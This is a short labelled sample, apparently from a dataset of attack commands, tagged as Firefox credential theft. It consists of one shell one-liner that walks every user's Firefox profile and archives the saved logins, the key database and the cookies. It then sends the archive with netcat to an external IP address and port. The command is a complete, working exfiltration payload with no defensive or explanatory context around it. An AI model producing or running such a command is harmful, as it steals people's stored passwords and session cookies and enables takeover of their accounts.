# class: credential theft, Firefox; style: terse
for p in /home/*/.mozilla/firefox/*.default*; do tar czf - $p/logins.json $p/key4.db $p/cookies.sqlite 2>/dev/null | nc -w 3 198.51.100.12 4000; done
